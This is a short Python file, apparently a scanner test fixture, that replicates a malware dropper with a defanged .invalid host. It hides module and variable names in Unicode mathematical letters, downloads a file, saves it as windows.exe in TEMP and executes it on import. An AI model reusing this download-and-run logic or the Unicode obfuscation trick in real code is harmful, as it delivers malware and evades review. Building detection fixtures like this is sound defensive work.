# Defanged replica of the colarg/argsreq droppers: the module and variable
# names are written in Unicode mathematical letters, which Python folds to
# ASCII (NFKC) while it parses, so `𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀` is `requests`. The host is
# .invalid.
import os
import 𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀
import 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀


def 𝗺𝗮𝗶𝗻():
    𝘂𝗿𝗹, 𝗻𝗮𝗺𝗲 = "https://cdn.example.invalid/file", "windows.exe"
    𝗽𝗮𝘁𝗵 = os.path.join(os.environ.get("TEMP", "/tmp"), 𝗻𝗮𝗺𝗲)
    𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲 = 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(𝘂𝗿𝗹)
    with open(𝗽𝗮𝘁𝗵, "wb") as 𝗳:
        𝗳.write(𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲.content)
    𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀.call([𝗽𝗮𝘁𝗵])  # expect: HS107 critical


𝗺𝗮𝗶𝗻()
